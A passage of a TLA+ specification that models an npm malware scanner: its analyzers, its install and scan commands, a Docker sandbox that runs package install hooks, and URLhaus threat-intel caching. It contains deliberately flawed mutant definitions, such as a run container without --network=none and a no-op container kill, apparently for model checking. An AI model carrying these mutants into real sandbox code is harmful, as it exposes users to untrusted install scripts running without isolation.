Undefined == [present |-> FALSE, result |-> NoDynamicResult]
Defined(r) == [present |-> TRUE, result |-> r]

NoResult ==
  [ status |-> "none", riskScore |-> 0, riskLevel |-> "safe",
    findings |-> <<>>, iocs |-> <<>>, dynamicAnalysis |-> Undefined ]

ScanInit ==
  /\ scanIn \in [ file : ManifestFiles,
                  audit : AuditOutcomes, ast : AstOutcomes,
                  entropy : EntropyOutcomes, regex : RegexOutcomes,
                  binary : BinaryOutcomes,
                  threatIntel : ThreatIntelOutcomes,
                  dynamic : BOOLEAN, runDynamic : DynamicOutcomes ]
  /\ (~scanIn.dynamic) => scanIn.runDynamic = Returns(NoDynamicResult)
  /\ scpc = "start"
  /\ settled = <<>>
  /\ scfindings = <<>>
  /\ sciocs = <<>>
  /\ scresult = NoResult

ScanIdle ==
  /\ scanIn = [file |-> File("missing", EmptyManifest)]
  /\ scpc = "idle"
  /\ settled = <<>>
  /\ scfindings = <<>>
  /\ sciocs = <<>>
  /\ scresult = NoResult

Fulfilled(v) == [status |-> "fulfilled", value |-> v]

\* the array literal handed to Promise.allSettled: the six analyzer calls in
\* source order.  analyzeNpmAudit is async and its promise carries
\* .catch(() => []); the other five are plain calls wrapped in
\* Promise.resolve(...), so a raise happens while the array is being built,
\* before allSettled is called.  Raises if such a call raises, else returns
\* the settled results.
AnalyzerCalls(json, in) ==
  LET audit == IF in.audit.throws THEN Fulfilled(<<>>)
               ELSE Fulfilled(in.audit.value)
  IN  IF MetadataThrows(json)
      THEN Throws
      ELSE Returns(<< audit,
                      Fulfilled(analyzeMetadata(json)),
                      Fulfilled(in.ast), Fulfilled(in.entropy),
                      Fulfilled(in.regex), Fulfilled(in.binary) >>)

\* scan up to `await Promise.allSettled([...])`
ScanStart ==
  /\ scpc = "start"
  /\ LET json == loadPkg(scanIn.file)
         res  == AnalyzerCalls(json, scanIn)
     IN  IF res.throws
         THEN /\ scpc' = "rejected"
              /\ UNCHANGED settled
         ELSE /\ scpc' = "settled"
              /\ settled' = res.value
  /\ UNCHANGED <<scanIn, scfindings, sciocs, scresult>>
  /\ UNCHANGED exceptScan

\* results[i]?.status === 'fulfilled' ? value : nothing
ValueOr(r, empty) == IF r.status = "fulfilled" THEN r.value ELSE empty

iocKey(i) == <<i.type, i.value>>

\* dedupKey that also tells findings apart by their code excerpt
dedupKey_withCode(f) == <<f.type, f.file, f.line, f.code>>

dedupKey(f) == <<f.type, f.file, f.line>>

RECURSIVE DedupIOCs(_, _)
\* iocs.filter(first occurrence of type:value), over the first k IOCs
DedupIOCs(iocs, k) ==
  IF k = 0 THEN <<>>
  ELSE LET rest == DedupIOCs(iocs, k - 1) IN
       IF \E j \in 1..(k - 1) : iocKey(iocs[j]) = iocKey(iocs[k])
       THEN rest ELSE Append(rest, iocs[k])

RECURSIVE DedupFindings(_, _)
\* findings.filter(first occurrence of type:file:line), over the first k
DedupFindings(findings, k) ==
  IF k = 0 THEN <<>>
  ELSE LET rest == DedupFindings(findings, k - 1) IN
       IF \E j \in 1..(k - 1) : dedupKey(findings[j]) = dedupKey(findings[k])
       THEN rest ELSE Append(rest, findings[k])

\* from the resolution of allSettled to `await checkThreatIntel(uniqIOCs)`:
\* collect in the order audit, metadata, AST, entropy, binary; dedup the IOCs
ScanCollect ==
  /\ scpc = "settled"
  /\ LET meta == ValueOr(settled[2], [findings |-> <<>>, iocs |-> <<>>])
         iocs == meta.iocs \o ValueOr(settled[5], <<>>)
     IN  /\ scfindings' = ValueOr(settled[1], <<>>) \o meta.findings
                            \o ValueOr(settled[3], <<>>)
                            \o ValueOr(settled[4], <<>>)
                            \o ValueOr(settled[6], <<>>)
         /\ sciocs' = DedupIOCs(iocs, Len(iocs))
  /\ scpc' = "enrich"
  /\ UNCHANGED <<scanIn, settled, scresult>>
  /\ UNCHANGED exceptScan

\* the findings checkThreatIntel returns for the IOCs
ThreatFindings(iocs, outcome) ==
  IF outcome = "match"
  THEN [ k \in 1..Len(iocs) |->
           Finding("threat-intel", "critical", iocs[k].file, iocs[k].line,
                   iocs[k].value) ]
  ELSE <<>>

\* packageJson.name is read while the result is built: a TypeError on null
ResultThrows(json) == json.kind = "null"

\* the tail of scan: dedup by type+file+line, score, level, result object
Finish(findings, dyn) ==
  LET deduped == DedupFindings(findings, Len(findings)) IN
  IF ResultThrows(loadPkg(scanIn.file))
  THEN /\ scpc' = "rejected"
       /\ scfindings' = deduped
       /\ UNCHANGED scresult
  ELSE /\ scpc' = "returned"
       /\ scfindings' = deduped
       /\ \E score \in calcScore(deduped) :
            scresult' = [ status |-> "returned",
                          riskScore |-> score,
                          riskLevel |-> toLevel(score),
                          findings |-> deduped,
                          iocs |-> sciocs,
                          dynamicAnalysis |-> dyn ]

\* checkThreatIntel settles: its findings are pushed, or its raise is caught.
\* Without opts.dynamic scan runs on to its return; with it, to
\* `await runDynamic(dir)`.
ScanEnriched ==
  /\ scpc = "enrich"
  /\ LET ti == IF scanIn.threatIntel = "throw" THEN <<>>
               ELSE ThreatFindings(sciocs, scanIn.threatIntel)
         fs == scfindings \o ti
     IN  IF scanIn.dynamic
         THEN /\ scpc' = "dynamic"
              /\ scfindings' = fs
              /\ UNCHANGED scresult
         ELSE Finish(fs, Undefined)
  /\ UNCHANGED <<scanIn, settled, sciocs>>
  /\ UNCHANGED exceptScan

\* TryDynamic with a failed run reported as a timed-out one
TryDynamic_asTimeout(outcome) ==
  IF outcome.throws
  THEN [findings |-> TimeoutFindings(TRUE), analysis |-> Undefined]
  ELSE [findings |-> dynamicFindings(outcome.value),
        analysis |-> Defined(outcome.value)]

\* try { dyn = await runDynamic(dir); ... } catch { console.error(...) }:
\* what the block pushes onto findings and leaves in dynamicAnalysis
TryDynamic(outcome) ==
  IF outcome.throws
  THEN [findings |-> <<>>, analysis |-> Undefined]
  ELSE [findings |-> dynamicFindings(outcome.value),
        analysis |-> Defined(outcome.value)]

\* runDynamic settles: findings pushed and dynamicAnalysis set, or the raise
\* is caught and dynamicAnalysis stays undefined; then scan runs to its return
ScanDynamicDone ==
  /\ scpc = "dynamic"
  /\ LET dyn == TryDynamic(scanIn.runDynamic) IN
     Finish(scfindings \o dyn.findings, dyn.analysis)
  /\ UNCHANGED <<scanIn, settled, sciocs>>
  /\ UNCHANGED exceptScan

----------------------------------------------------------------------------
\* Minified-file policy of analyzeAST and analyzeEntropy

\* A path is the sequence of its pieces between dots: "foo.min.js" is
\* <<"foo", "min", "js">>, "a.min.d/x.js" is <<"a", "min", "d/x", "js">>.
JsExts == {"js", "mjs", "cjs"}

Paths ==
  { <<"foo", "js">>, <<"foo", "min", "js">>,
    <<"bar", "min", "js">>,
    <<"lib", "mjs">>, <<"lib", "min", "mjs">>,
    <<"a", "min", "d/x", "js">>, <<"a", "min", "d/x", "min", "js">> }

\* p without its i-th piece
DropPiece(p, i) ==
  [ j \in 1..(Len(p) - 1) |-> IF j < i THEN p[j] ELSE p[j + 1] ]

\* /\.min\.(js|mjs|cjs)$/.test(path); also path.endsWith('.min.js') ||
\* path.endsWith('.min.mjs') || path.endsWith('.min.cjs')
isMin(p) ==
  /\ Len(p) >= 3
  /\ p[Len(p) - 1] = "min"
  /\ p[Len(p)] \in JsExts

\* path.replace(/\.min\.(js|mjs|cjs)$/, '.$1')
StripMinSuffix(p) == IF isMin(p) THEN DropPiece(p, Len(p) - 1) ELSE p

\* path.replace(/\.min\./, '.'): the first ".min." of the path goes
StripFirstMin(p) ==
  LET hits == { i \in 2..(Len(p) - 1) : p[i] = "min" } IN
  IF hits = {} THEN p
  ELSE DropPiece(p, CHOOSE i \in hits : \A j \in hits : i <= j)

\* const bases = new Set(files.map(f => f.path.replace(...)))
Bases(files) == { StripMinSuffix(files[i]) : i \in 1..Len(files) }

\* the `continue` of analyzeAST
AstSkips(files, p) == isMin(p) /\ StripFirstMin(p) \in Bases(files)

\* the `continue` of analyzeEntropy
EntropySkips(files, p) == isMin(p)

\* every file holds `eval(x)` on line 1 and a high-entropy string literal on
\* line 2: what walkTree and the entropy walk find in a file they look at
AstFinding(p) == Finding("eval", "critical", p, 1, "eval(x)")
EntropyFinding(p) == Finding("obfuscation", "danger", p, 2, "")

RECURSIVE analyzeAST(_, _)
\* analyzeAST over the first k files
analyzeAST(files, k) ==
  IF k = 0 THEN <<>>
  ELSE IF AstSkips(files, files[k]) THEN analyzeAST(files, k - 1)
  ELSE Append(analyzeAST(files, k - 1), AstFinding(files[k]))

RECURSIVE analyzeEntropy(_, _)
\* analyzeEntropy over the first k files
analyzeEntropy(files, k) ==
  IF k = 0 THEN <<>>
  ELSE IF EntropySkips(files, files[k]) THEN analyzeEntropy(files, k - 1)
  ELSE Append(analyzeEntropy(files, k - 1), EntropyFinding(files[k]))

NotRun == [done |-> FALSE, findings |-> <<>>]

\* the walk of the package directory lists every path once
MinInit ==
  /\ mfiles \in { fs \in SeqUpTo(Paths, MaxFiles) :
                    \A i, j \in 1..Len(fs) : i # j => fs[i] # fs[j] }
  /\ mast = NotRun
  /\ mentropy = NotRun

MinIdle ==
  /\ mfiles = <<>>
  /\ mast = [done |-> TRUE, findings |-> <<>>]
  /\ mentropy = [done |-> TRUE, findings |-> <<>>]

RunAST ==
  /\ ~mast.done
  /\ mast' = [done |-> TRUE, findings |-> analyzeAST(mfiles, Len(mfiles))]
  /\ UNCHANGED <<mfiles, mentropy>>
  /\ UNCHANGED exceptMin

RunEntropy ==
  /\ ~mentropy.done
  /\ mentropy' = [done |-> TRUE,
                  findings |-> analyzeEntropy(mfiles, Len(mfiles))]
  /\ UNCHANGED <<mfiles, mast>>
  /\ UNCHANGED exceptMin

----------------------------------------------------------------------------
\* The install command

LEVEL_ORDER == <<"safe", "low", "medium", "high", "critical">>

\* LEVEL_ORDER.indexOf(x), 0-based, -1 when absent
IndexOfLevel(x) ==
  IF \E i \in 1..Len(LEVEL_ORDER) : LEVEL_ORDER[i] = x
  THEN (CHOOSE i \in 1..Len(LEVEL_ORDER) : LEVEL_ORDER[i] = x) - 1
  ELSE -1

\* the CLI's own copy of toLevel (scores in hundredths)
cliToLevel(s) ==
  IF s <= 100 THEN "safe"
  ELSE IF s <= 300 THEN "low"
  ELSE IF s <= 500 THEN "medium"
  ELSE IF s <= 750 THEN "high"
  ELSE "critical"

AISkipped == [verdict |-> "skipped", aiScore |-> 0]
AIVerdict(v, a) == [verdict |-> v, aiScore |-> a]

\* Math.round((scannerScore * 0.4 + ai.aiScore * 0.6) * 10) / 10 for scores
\* with one decimal: 4s + 6a is even, so the rounding never meets a tie
Blend(scannerScore, aiScore) ==
  10 * ((4 * (scannerScore \div 10) + 6 * (aiScore \div 10) + 5) \div 10)

computeFinalScore(scannerScore, ai) ==
  IF ai.verdict = "skipped"
  THEN [finalScore |-> scannerScore, finalLevel |-> cliToLevel(scannerScore)]
  ELSE LET blended == Blend(scannerScore, ai.aiScore)
           finalScore == IF blended > 1000 THEN 1000
                         ELSE IF blended < 0 THEN 0 ELSE blended
       IN [finalScore |-> finalScore, finalLevel |-> cliToLevel(finalScore)]

installCmd(pm, pkgs) ==
  <<pm, IF pm = "npm" THEN "install" ELSE "add">>
    \o [ i \in 1..Len(pkgs) |-> pkgs[i].name ]

\* A requested package and what fetching, scanning and the AI backend do
\* with it: fetch "ok" | "fail"; scan throws or returns riskScore.
Pkg(name, fetch, threw, score, ai) ==
  [name |-> name, fetch |-> fetch,
   scan |-> [threw |-> threw, riskScore |-> score], ai |-> ai]

PkgKinds ==
  { Pkg("unpublished", "fail", FALSE, 0, AISkipped),
    Pkg("broken", "ok", TRUE, 0, AISkipped),
    Pkg("lodash", "ok", FALSE, 0, AISkipped),
    Pkg("malicious", "ok", FALSE, 600, AISkipped),
    Pkg("noisy", "ok", FALSE, 600, AIVerdict("safe", 0)),
    Pkg("subtle", "ok", FALSE, 200, AIVerdict("malicious", 1000)) }

InstallOpts ==
  [ pm : {"npm", "bun"}, failOn : {"high", "low", "severe"},
    dryRun : BOOLEAN, json : BOOLEAN, ai : BOOLEAN ]

InstallInit ==
  /\ ipkgs \in SeqUpTo(PkgKinds, MaxPkgs) \ {<<>>}
  /\ iopts \in InstallOpts
  /\ ipc = "fetch"
  /\ iidx = 1
  /\ iblocked = <<>>
  /\ itmp = {}
  /\ ispawned = <<>>
  /\ iexit = -1

InstallIdle ==
  /\ ipkgs = <<>>
  /\ iopts = [pm |-> "npm", failOn |-> "high", dryRun |-> FALSE,
              json |-> FALSE, ai |-> FALSE]
  /\ ipc = "idle"
  /\ iidx = 1
  /\ iblocked = <<>>
  /\ itmp = {}
  /\ ispawned = <<>>
  /\ iexit = -1

\* finalScore / finalLevel of one scanned package under the options
FinalOf(pkg, opts) ==
  IF ~opts.json /\ opts.ai
  THEN computeFinalScore(pkg.scan.riskScore, pkg.ai)
  ELSE [finalScore |-> pkg.scan.riskScore,
        finalLevel |-> cliToLevel(pkg.scan.riskScore)]

\* the loop moves on: next package, or the code after the loop
Advance(blocked) ==
  /\ iblocked' = blocked
  /\ IF iidx < Len(ipkgs)
     THEN /\ iidx' = iidx + 1
          /\ ipc' = "fetch"
          /\ UNCHANGED <<ispawned, iexit>>
     ELSE /\ UNCHANGED iidx
          /\ IF blocked # <<>>
             THEN ipc' = "exit" /\ iexit' = 1 /\ UNCHANGED ispawned
             ELSE IF iopts.dryRun
             THEN ipc' = "returned" /\ UNCHANGED <<ispawned, iexit>>
             ELSE /\ ispawned' = installCmd(iopts.pm, ipkgs)
                  /\ ipc' = "installing"
                  /\ UNCHANGED iexit

\* await fetchPackage(pkg) settles
InstallFetched ==
  /\ ipc = "fetch"
  /\ IF ipkgs[iidx].fetch = "fail"
     THEN Advance(iblocked) /\ UNCHANGED itmp
     ELSE /\ itmp' = itmp \cup {iidx}
          /\ ipc' = "scan"
          /\ UNCHANGED <<iidx, iblocked, ispawned, iexit>>
  /\ UNCHANGED <<ipkgs, iopts>>
  /\ UNCHANGED exceptInst

\* await scan(...) settles; report, AI, threshold test, finally cleanup
InstallScanned ==
  /\ ipc = "scan"
  /\ itmp' = itmp \ {iidx}
  /\ IF ipkgs[iidx].scan.threw
     THEN /\ ipc' = "rejected"
          /\ UNCHANGED <<iidx, iblocked, ispawned, iexit>>
     ELSE LET final == FinalOf(ipkgs[iidx], iopts)
              threshold == IndexOfLevel(iopts.failOn)
              actual == IndexOfLevel(final.finalLevel)
          IN Advance(IF threshold >= 0 /\ actual >= threshold
                     THEN Append(iblocked, ipkgs[iidx].name)
                     ELSE iblocked)
  /\ UNCHANGED <<ipkgs, iopts>>
  /\ UNCHANGED exceptInst

\* await proc.exited settles
InstallExited ==
  /\ ipc = "installing"
  /\ \E code \in {0, 1} :
       IF code # 0 THEN ipc' = "exit" /\ iexit' = code
       ELSE ipc' = "returned" /\ UNCHANGED iexit
  /\ UNCHANGED <<ipkgs, iopts, iidx, iblocked, itmp, ispawned>>
  /\ UNCHANGED exceptInst

----------------------------------------------------------------------------
\* The scan command

ScanOpts == [ failOn : {"high", "low", "severe"}, json : BOOLEAN, ai : BOOLEAN ]

CmdInit ==
  /\ cpkg \in PkgKinds
  /\ clocal \in BOOLEAN
  /\ copts \in ScanOpts
  /\ cpc = "fetch"
  /\ ctmp = FALSE
  /\ cexit = -1

CmdIdle ==
  /\ cpkg = Pkg("", "ok", FALSE, 0, AISkipped)
  /\ clocal = FALSE
  /\ copts = [failOn |-> "high", json |-> FALSE, ai |-> FALSE]
  /\ cpc = "idle"
  /\ ctmp = FALSE
  /\ cexit = -1

\* finalScore / finalLevel of the scan command: the AI verdict is blended in
\* with and without --json unless --no-ai
CmdFinalOf(pkg, opts) ==
  IF opts.ai
  THEN computeFinalScore(pkg.scan.riskScore, pkg.ai)
  ELSE [finalScore |-> pkg.scan.riskScore,
        finalLevel |-> toLevel(pkg.scan.riskScore)]

\* a local path is scanned in place; otherwise `await fetchPackage(pkg)`
\* settles: mkdtempSync has made the temp directory, pacote.extract filled
\* it or raised
CmdFetched ==
  /\ cpc = "fetch"
  /\ IF clocal
     THEN /\ cpc' = "scan"
          /\ UNCHANGED <<ctmp, cexit>>
     ELSE /\ ctmp' = TRUE
          /\ IF cpkg.fetch = "fail"
             THEN cpc' = "exit" /\ cexit' = 1
             ELSE cpc' = "scan" /\ UNCHANGED cexit
  /\ UNCHANGED <<cpkg, clocal, copts>>
  /\ UNCHANGED exceptCmd

\* `await scan(...)` settles; report, AI, threshold test; the finally block
\* runs when the try block is left by return or throw, process.exit(1) ends
\* the process where it stands
CmdScanned ==
  /\ cpc = "scan"
  /\ IF cpkg.scan.threw
     THEN /\ ctmp' = FALSE
          /\ cpc' = "rejected"
          /\ UNCHANGED cexit
     ELSE LET final == CmdFinalOf(cpkg, copts)
              threshold == IndexOfLevel(copts.failOn)
              actual == IndexOfLevel(final.finalLevel)
          IN  IF threshold >= 0 /\ actual >= threshold
              THEN /\ cpc' = "exit"
                   /\ cexit' = 1
                   /\ UNCHANGED ctmp
              ELSE /\ ctmp' = FALSE
                   /\ cpc' = "returned"
                   /\ UNCHANGED cexit
  /\ UNCHANGED <<cpkg, clocal, copts>>
  /\ UNCHANGED exceptCmd

----------------------------------------------------------------------------
\* The dynamic sandbox: runDynamic and the scripts the containers run

\* for HOOK in preinstall install postinstall
RunHooks == <<"preinstall", "install", "postinstall">>

\* what a declared hook does when run: "exit0", "exit1", or "hang" (it
\* outlives `timeout 15s`); "undeclared" when package.json has no such script
HookBehaviours == {"undeclared", "exit0", "exit1", "hang"}

Roles == {"fetch", "run"}

\* the steps of each script of the image, in order; "hooks" is the loop over
\* RunHooks, "npm-install" is the npm install of the dependencies. The last
\* case is entrypoint.sh, the one-container script neither docker run selects.
EntrypointSteps(script) ==
  CASE script = "/entrypoint-fetch.sh" -> <<"copy", "npm-install", "fetch-meta">>
    [] script = "/entrypoint-run.sh" -> <<"fs-before", "hooks", "meta">>
    [] OTHER -> <<"copy", "npm-install", "fs-before", "hooks", "meta">>

\* docker run arguments of container 1 (no --network flag: default bridge)
FetchArgs == [network |-> TRUE, entrypoint |-> "/entrypoint-fetch.sh"]

\* mutation of RunArgs: --network=none left out
RunArgs_bridge == [network |-> TRUE, entrypoint |-> "/entrypoint-run.sh"]

\* docker run arguments of container 2 (--network=none)
RunArgs == [network |-> FALSE, entrypoint |-> "/entrypoint-run.sh"]

NoContainer ==
  [state |-> "absent", network |-> FALSE, entrypoint |-> "", pc |-> 1,
   hookIdx |-> 0, hook |-> "none", EXIT |-> 0, killed |-> FALSE]

\* Bun.spawn(['docker', 'run', ...])
Spawned(args) ==
  [state |-> "running", network |-> args.network,
   entrypoint |-> args.entrypoint, pc |-> 1,
   hookIdx |-> 0, hook |-> "none", EXIT |-> 0, killed |-> FALSE]

\* DockerKill that leaves the container alone
DockerKill_noop(c) == c

\* Bun.spawnSync(['docker', 'kill', name]): a running container is ended,
\* on one that has exited the command does nothing
DockerKill(c) ==
  IF c.state = "running"
  THEN [c EXCEPT !.state = "exited", !.hook = "none", !.killed = TRUE]
  ELSE c

\* FinallyBlock without the `docker volume rm`
FinallyBlock_keepVolume(volume, outDir) ==
  [volume |-> volume,
   outDir |-> [exists |-> FALSE,
               meta |-> [present |-> FALSE, exitCode |-> 0,
                         timedOut |-> FALSE]]]

\* finally { docker volume rm -f volName; fs.rmSync(outDir, ...) }
FinallyBlock(volume, outDir) ==
  [volume |-> FALSE,
   outDir |-> [exists |-> FALSE,
               meta |-> [present |-> FALSE, exitCode |-> 0,
                         timedOut |-> FALSE]]]

NoMeta == [present |-> FALSE, exitCode |-> 0, timedOut |-> FALSE]

DynInit ==
  /\ dpkg \in [ {"preinstall", "install", "postinstall"} -> HookBehaviours ]
  /\ dimage \in {"present", "builds", "buildFails"}
  /\ dfault \in {"none", "fetch", "run"}
  /\ dpc = "start"
  /\ dcont = [ r \in Roles |-> NoContainer ]
  /\ dtimer = [ r \in Roles |-> "unset" ]
  /\ dtimedOut = [ r \in Roles |-> FALSE ]
  /\ dvolume = FALSE
  /\ doutDir = [exists |-> FALSE, meta |-> NoMeta]
  /\ dresult = [status |-> "none", exitCode |-> 0, timedOut |-> FALSE]

DynIdle ==
  /\ dpkg = [ h \in {"preinstall", "install", "postinstall"} |-> "undeclared" ]
  /\ dimage = "present"
  /\ dfault = "none"
  /\ dpc = "idle"
  /\ dcont = [ r \in Roles |-> NoContainer ]
  /\ dtimer = [ r \in Roles |-> "unset" ]
  /\ dtimedOut = [ r \in Roles |-> FALSE ]
  /\ dvolume = FALSE
  /\ doutDir = [exists |-> FALSE, meta |-> NoMeta]
  /\ dresult = [status |-> "none", exitCode |-> 0, timedOut |-> FALSE]

\* ensureImage, mkdir of outDir, volume create, container 1 spawned and its
\* timer armed, up to `await fetchProc.exited`; a raise of Bun.spawn inside
\* the try block runs the finally block
DynStart ==
  /\ dpc = "start"
  /\ IF dimage = "buildFails"
     THEN /\ dpc' = "threw"
          /\ UNCHANGED <<dcont, dtimer, dvolume, doutDir>>
     ELSE IF dfault = "fetch"
     THEN LET fin == FinallyBlock(TRUE, [exists |-> TRUE, meta |-> NoMeta]) IN
          /\ dpc' = "threw"
          /\ dvolume' = fin.volume
          /\ doutDir' = fin.outDir
          /\ UNCHANGED <<dcont, dtimer>>
     ELSE /\ dpc' = "awaitFetch"
          /\ doutDir' = [exists |-> TRUE, meta |-> NoMeta]
          /\ dvolume' = TRUE
          /\ dcont' = [dcont EXCEPT !["fetch"] = Spawned(FetchArgs)]
          /\ dtimer' = [dtimer EXCEPT !["fetch"] = "armed"]
  /\ UNCHANGED <<dpkg, dimage, dfault, dtimedOut, dresult>>
  /\ UNCHANGED exceptDyn

\* the step the script of container r is at
StepOf(c) ==
  LET steps == EntrypointSteps(c.entrypoint) IN
  IF c.pc <= Len(steps) THEN steps[c.pc] ELSE "exit"

\* `npm install --ignore-scripts` in entrypoint-fetch.sh and entrypoint.sh:
\* npm runs the package's lifecycle scripts itself unless told not to
NpmIgnoreScripts(script) == TRUE

\* the step at which lifecycle scripts of the package get run
StepRunsHooks(c) ==
  \/ StepOf(c) = "hooks"
  \/ StepOf(c) = "npm-install" /\ ~NpmIgnoreScripts(c.entrypoint)

\* the container moves past its current step; after the last one, `exit 0`
Proceed(c) ==
  IF c.pc >= Len(EntrypointSteps(c.entrypoint))
  THEN [c EXCEPT !.state = "exited", !.pc = c.pc + 1, !.hookIdx = 0,
                 !.hook = "none"]
  ELSE [c EXCEPT !.pc = c.pc + 1, !.hookIdx = 0, !.hook = "none"]

\* TIMED_OUT of meta.json
MetaOf(c) ==
  [present |-> TRUE, exitCode |-> c.EXIT, timedOut |-> c.EXIT \in {124, 137}]

\* a script step other than the hook loop runs to its end; npm install runs
\* with --ignore-scripts, so it starts no hook
ContainerStep(r) ==
  /\ dcont[r].state = "running"
  /\ ~StepRunsHooks(dcont[r])
  /\ dcont' = [dcont EXCEPT ![r] = Proceed(dcont[r])]
  /\ doutDir' = IF StepOf(dcont[r]) = "meta" /\ doutDir.exists
                THEN [doutDir EXCEPT !.meta = MetaOf(dcont[r])]
                ELSE doutDir
  /\ UNCHANGED <<dpkg, dimage, dfault, dpc, dtimer, dtimedOut, dvolume,
                 dresult>>
  /\ UNCHANGED exceptDyn

\* the hook loop reaches its next HOOK: a declared script is started under
\* `timeout 15s sh -c`, an undeclared one is passed over
HookNext(r) ==
  /\ dcont[r].state = "running"
  /\ StepRunsHooks(dcont[r])
  /\ dcont[r].hook = "none"
  /\ LET c == dcont[r] IN
     IF c.hookIdx = Len(RunHooks)
     THEN dcont' = [dcont EXCEPT ![r] = Proceed(c)]
     ELSE LET h == RunHooks[c.hookIdx + 1] IN
          dcont' = [dcont EXCEPT ![r] =
                      [c EXCEPT !.hookIdx = c.hookIdx + 1,
                                !.hook = IF dpkg[h] = "undeclared"
                                         THEN "none" ELSE h]]
  /\ UNCHANGED <<dpkg, dimage, dfault, dpc, dtimer, dtimedOut, dvolume,
                 doutDir, dresult>>
  /\ UNCHANGED exceptDyn

\* the running hook ends, by itself or killed by `timeout 15s`:
\* `|| EXIT=$?` keeps a non-zero status
HookEnd(r) ==
  /\ dcont[r].state = "running"
  /\ dcont[r].hook # "none"
  /\ LET c == dcont[r]
         status == CASE dpkg[c.hook] = "exit0" -> 0
                     [] dpkg[c.hook] = "exit1" -> 1
                     [] OTHER -> 124
     IN dcont' = [dcont EXCEPT ![r] =
                    [c EXCEPT !.hook = "none",
                              !.EXIT = IF status # 0 THEN status ELSE c.EXIT]]
  /\ UNCHANGED <<dpkg, dimage, dfault, dpc, dtimer, dtimedOut, dvolume,
                 doutDir, dresult>>
  /\ UNCHANGED exceptDyn

\* the setTimeout callback of role r runs while runDynamic awaits that
\* container: the flag is set and `docker kill` ends the container
TimerFires(r) ==
  /\ dtimer[r] = "armed"
  /\ dpc = (IF r = "fetch" THEN "awaitFetch" ELSE "awaitRun")
  /\ dtimer' = [dtimer EXCEPT ![r] = "fired"]
  /\ dtimedOut' = [dtimedOut EXCEPT ![r] = TRUE]
  /\ dcont' = [dcont EXCEPT ![r] = DockerKill(dcont[r])]
  /\ UNCHANGED <<dpkg, dimage, dfault, dpc, dvolume, doutDir, dresult>>
  /\ UNCHANGED exceptDyn

\* clearTimeout(t)
Cleared(t) == IF t = "armed" THEN "cleared" ELSE t

\* `await fetchProc.exited` resumes: timer cleared, container 2 spawned and
\* its timer armed, up to `await runProc.exited`; a raise of Bun.spawn runs
\* the finally block
DynFetchExited ==
  /\ dpc = "awaitFetch"
  /\ dcont["fetch"].state = "exited"
  /\ IF dfault = "run"
     THEN LET fin == FinallyBlock(dvolume, doutDir) IN
          /\ dpc' = "threw"
          /\ dvolume' = fin.volume
          /\ doutDir' = fin.outDir
          /\ dtimer' = [dtimer EXCEPT !["fetch"] = Cleared(dtimer["fetch"])]
          /\ UNCHANGED dcont
     ELSE /\ dpc' = "awaitRun"
          /\ dcont' = [dcont EXCEPT !["run"] = Spawned(RunArgs)]
          /\ dtimer' = [dtimer EXCEPT !["fetch"] = Cleared(dtimer["fetch"]),
                                      !["run"] = "armed"]
          /\ UNCHANGED <<dvolume, doutDir>>
  /\ UNCHANGED <<dpkg, dimage, dfault, dtimedOut, dresult>>
  /\ UNCHANGED exceptDyn

\* parseOutput(outDir, timedOut): the fields of meta.json override the
\* defaults { exitCode: -1, timedOut }, and the result's timedOut is
\* timedOut || meta.timedOut
parseOutput(dir, timedOut) ==
  LET meta == IF dir.meta.present THEN dir.meta
              ELSE [present |-> FALSE, exitCode |-> -1, timedOut |-> timedOut]
  IN  [status |-> "returned", exitCode |-> meta.exitCode,
       timedOut |-> timedOut \/ meta.timedOut]

\* `await runProc.exited` resumes: timer cleared, output parsed, and the
\* finally block removes the volume and the output directory
DynRunExited ==
  /\ dpc = "awaitRun"
  /\ dcont["run"].state = "exited"
  /\ dpc' = "returned"
  /\ dtimer' = [dtimer EXCEPT !["run"] = Cleared(dtimer["run"])]
  /\ dresult' = parseOutput(doutDir, dtimedOut["run"])
  /\ LET fin == FinallyBlock(dvolume, doutDir) IN
     dvolume' = fin.volume /\ doutDir' = fin.outDir
  /\ UNCHANGED <<dpkg, dimage, dfault, dcont, dtimedOut>>
  /\ UNCHANGED exceptDyn

----------------------------------------------------------------------------
\* Threat-intel enrichment: the URLhaus cache and checkThreatIntel

CACHE_MAX_AGE == 60 * 60 * 1000

VT_RATE_DELAY == 15500

\* a cap of one request more per call
MAX_VT_CHECKS_five == 4 + 1

MAX_VT_CHECKS == 4

\* ThreatDB | null, as one record shape
ThreatDB(domains, urls, fetchedAt) ==
  [present |-> TRUE, domains |-> domains, urls |-> urls,
   fetchedAt |-> fetchedAt]

NoDB == [present |-> FALSE, domains |-> {}, urls |-> {}, fetchedAt |-> 0]

\* one entry of the URLhaus answer, as fetchURLhaus maps it
URLhausEntry(url, host) == [url |-> url, host |-> host]

\* the endpoint: answers with a list of entries, or the request fails (no
\* connection, a status that is not ok, a body that is not JSON)
FeedDown == [ok |-> FALSE, urls |-> <<>>]
FeedUp(entries) == [ok |-> TRUE, urls |-> entries]

Feeds ==
  { FeedDown,
    FeedUp(<<URLhausEntry("http://Evil.Example/x", "Evil.Example")>>),
    FeedUp(<<URLhausEntry("http://Evil.Example/x", "Evil.Example"),
             URLhausEntry("http://10.0.0.1/p", "10.0.0.1")>>) }

\* String.prototype.toLowerCase on the strings of this model
toLowerCase(s) ==
  CASE s = "Evil.Example" -> "evil.example"
    [] s = "http://Evil.Example/x" -> "http://evil.example/x"
    [] s = "HTTP://CDN.Example/a.js" -> "http://cdn.example/a.js"
    [] OTHER -> s

\* new URL(url).hostname, '' when the URL does not parse
extractHost(url) ==
  CASE url = "http://evil.example/x" -> "evil.example"
    [] url = "http://cdn.example/a.js" -> "cdn.example"
    [] url = "http://10.0.0.1/p" -> "10.0.0.1"
    [] OTHER -> ""

\* fetchURLhaus: the mapped entries, [] when the request failed
fetchURLhaus(feed) == IF feed.ok THEN feed.urls ELSE <<>>

\* the database getThreatDB builds from the fetched entries
BuildDB(entries, now) ==
  ThreatDB({ toLowerCase(entries[k].host) :
               k \in { j \in 1..Len(entries) : entries[j].host # "" } },
           { toLowerCase(entries[k].url) :
               k \in { j \in 1..Len(entries) : entries[j].url # "" } },
           now)

\* the first test of getThreatDB, passing whatever the age
MemoryFresh_always(db, now) == db.present

\* cachedDB && Date.now() - cachedDB.fetchedAt < CACHE_MAX_AGE
MemoryFresh(db, now) == db.present /\ now - db.fetchedAt < CACHE_MAX_AGE

\* loadCache: null when the file is missing or unreadable, or older than
\* CACHE_MAX_AGE
loadCache(disk, now) ==
  IF ~disk.present THEN NoDB
  ELSE IF now - disk.fetchedAt > CACHE_MAX_AGE THEN NoDB
  ELSE disk

\* an IOC as extractIOCs emits it: context is "file:line", kept as its two
